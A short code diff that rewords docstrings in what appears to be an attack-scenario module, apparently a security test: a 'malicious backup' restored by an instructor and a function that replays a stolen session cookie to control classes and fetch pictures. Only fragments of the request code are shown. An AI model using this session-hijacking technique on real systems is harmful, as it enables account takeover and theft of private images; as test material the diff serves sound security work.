@@ -1,4 +1,4 @@
-"""A backup that somebody prepared, and that the instructor restored."""
+"""A malicious backup that the instructor restored."""
 
 import asyncio
 import hashlib
@@ -46,7 +46,7 @@ async def restore_it(data_dir: Path) -> None:
 
 
 async def use_what_was_planted(target: Target) -> Outcome:
-    """Ask for what leads classes with the token, and for the pictures."""
+    """Try to control classes with the token, and to fetch the pictures."""
     cookie = f"Cookie: sessionid={STOLEN}"
     asked = (
         f"GET /api/sessions/{target.code}/board",
